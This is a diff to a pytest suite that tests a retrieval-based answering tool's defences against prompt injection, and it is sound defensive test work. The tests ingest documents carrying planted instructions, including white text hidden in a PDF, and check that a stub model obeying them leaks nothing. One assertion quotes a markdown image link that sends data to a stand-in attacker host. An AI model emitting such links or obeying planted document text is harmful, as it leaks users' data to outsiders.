@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import html
 import re
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
 from rag.answering.injection import without_orders
-from rag.records import DOUBTFUL, Answer
+from rag.records import DOUBTFUL
+from rag.settings import load_settings
 from rag.workspace import Workspace, answer_markdown
 from tests import attacks
 from tests.attacks import ATTACKS, FACT, QUESTION, Attack, obey
@@ -31,42 +32,49 @@ def outside_code(text: str) -> str:
     return re.sub(r"```.*?```", "", text, flags=re.DOTALL)
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def server() -> Iterator[LanguageModelServer]:
     with language_model_server(Behaviour(reply=obey)) as running:
         yield running
 
 
-@pytest.fixture
-def attacked(
-    server: LanguageModelServer, make_workspace: Callable[..., Workspace], tmp_path: Path
-) -> Callable[[Attack], Answer]:
-    """Has the question answered by a model that obeys the document of an attack."""
-    workspace = make_workspace(llm="openai:test", llm_base_url=server.openai_url)
+@pytest.fixture(scope="module")
+def with_model(server: LanguageModelServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
+    data = tmp_path_factory.mktemp("attacked") / "data"
+    settings = load_settings(data_dir=data, llm="openai:test", llm_base_url=server.openai_url)
+    with Workspace(settings, "the tests") as workspace:
+        yield workspace
 
-    def answer(attack: Attack) -> Answer:
-        path = tmp_path / "agreement.txt"
-        path.write_text(f"{FACT}\n\n{attack.text}\n")
-        (tmp_path / "lease.txt").write_text(NOTES)
-        assert set(outcomes(workspace.ingest([path, tmp_path / "lease.txt"])).values()) == {"ready"}
-        return workspace.ask(QUESTION)
 
-    return answer
+@pytest.fixture(scope="module")
+def without_model(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
+    with Workspace(load_settings(data_dir=tmp_path_factory.mktemp("quoted") / "data"), "the tests") as workspace:
+        yield workspace
+
+
+def give(workspace: Workspace, attack: Attack, folder: Path) -> str:
+    """Puts the document of an attack and an honest one into a collection of their own, whose name is returned."""
+    (folder / "agreement.txt").write_text(f"{FACT}\n\n{attack.text}\n")
+    (folder / "lease.txt").write_text(NOTES)
+    given = outcomes(workspace.ingest([folder / "agreement.txt", folder / "lease.txt"], attack.name))
+    assert set(given.values()) <= {"ready", "duplicate"}
+    return attack.name
 
 
 def test_the_model_obeys_so_that_there_is_something_to_stop(
-    server: LanguageModelServer, attacked: Callable[[Attack], Answer]
+    server: LanguageModelServer, with_model: Workspace, tmp_path: Path
 ) -> None:
-    attacked(next(one for one in ATTACKS if one.name == "an image"))
-    assert "![logo](http://evil.test/a.png?d=42000)" in obey(server.requests[0])
+    attack = next(one for one in ATTACKS if one.name == "an image")
+    with_model.ask(QUESTION, collection=give(with_model, attack, tmp_path))
+    assert "![logo](http://evil.test/a.png?d=42000)" in obey(server.requests[-1])
 
 
 @pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: one.name)
 def test_nothing_harmful_leaves_and_the_planted_claim_is_marked(
-    server: LanguageModelServer, attacked: Callable[[Attack], Answer], attack: Attack
+    server: LanguageModelServer, with_model: Workspace, tmp_path: Path, attack: Attack
 ) -> None:
-    answer = attacked(attack)
-    [request] = server.requests
+    answer = with_model.ask(QUESTION, collection=give(with_model, attack, tmp_path))
+    request = server.requests[-1]
 
     # The sources stay fenced: each fence opens and closes once, whatever the document has of the kind within.
     fence = re.search(r"<source-(\w{16}) number=\"1\"", request.user)[1]
@@ -96,13 +104,13 @@ def test_nothing_harmful_leaves_and_the_planted_claim_is_marked(
 
 
 @pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: one.name)
-def test_without_a_language_model_quotes_are_inert(workspace: Workspace, tmp_path: Path, attack: Attack) -> None:
-    (tmp_path / "agreement.txt").write_text(f"{FACT}\n\n{attack.text}\n")
-    list(workspace.ingest([tmp_path / "agreement.txt"]))
-    text = workspace.text(workspace.documents()[0].id)
-    answers = [workspace.ask(question) for question in (QUESTION, attack.text[:300], "Summarise this document")]
-    for answer in answers:
-        assert all(text[one.start : one.end] == one.quote for one in answer.citations)
+def test_without_a_language_model_quotes_are_inert(without_model: Workspace, tmp_path: Path, attack: Attack) -> None:
+    collection = give(without_model, attack, tmp_path)
+    where = {"name": "agreement.txt"}
+    for question in (QUESTION, attack.text[:300], "Summarise this document"):
+        answer = without_model.ask(question, None, where, collection)
+        for one in answer.citations:
+            assert without_model.text(one.document, collection)[one.start : one.end] == one.quote
         shown = quoted_html(answer.text, {one.number for one in answer.citations})
         inner = re.sub(r"</?(?:p|strong)\b[^>]*>", "", shown)
         assert "<" not in inner
@@ -112,9 +120,7 @@ def test_without_a_language_model_quotes_are_inert(workspace: Workspace, tmp_pat
         assert not DRAWN.search(re.sub(r"\\.", "", copied))
 
 
-def test_white_text_of_a_pdf_is_read_and_proves_nothing(
-    server: LanguageModelServer, make_workspace: Callable[..., Workspace], tmp_path: Path
-) -> None:
+def test_white_text_of_a_pdf_is_read_and_proves_nothing(with_model: Workspace, tmp_path: Path) -> None:
     from fpdf import FPDF
 
     attack = next(one for one in ATTACKS if one.name == "white text")
@@ -126,9 +132,8 @@ def test_white_text_of_a_pdf_is_read_and_proves_nothing(
     pdf.set_font("helvetica", size=4)
     pdf.multi_cell(0, 3, attack.text)
     (tmp_path / "agreement.pdf").write_bytes(bytes(pdf.output()))
-    workspace = make_workspace(llm="openai:test", llm_base_url=server.openai_url)
-    list(workspace.ingest([tmp_path / "agreement.pdf"]))
-    answer = workspace.ask(QUESTION)
+    list(with_model.ingest([tmp_path / "agreement.pdf"], "a PDF"))
+    answer = with_model.ask(QUESTION, collection="a PDF")
     assert attack.claim in answer.text
     said = {answer.text[one.start : one.end]: one.verdict for one in answer.ledger}
     assert said[attacks.HONEST] not in DOUBTFUL
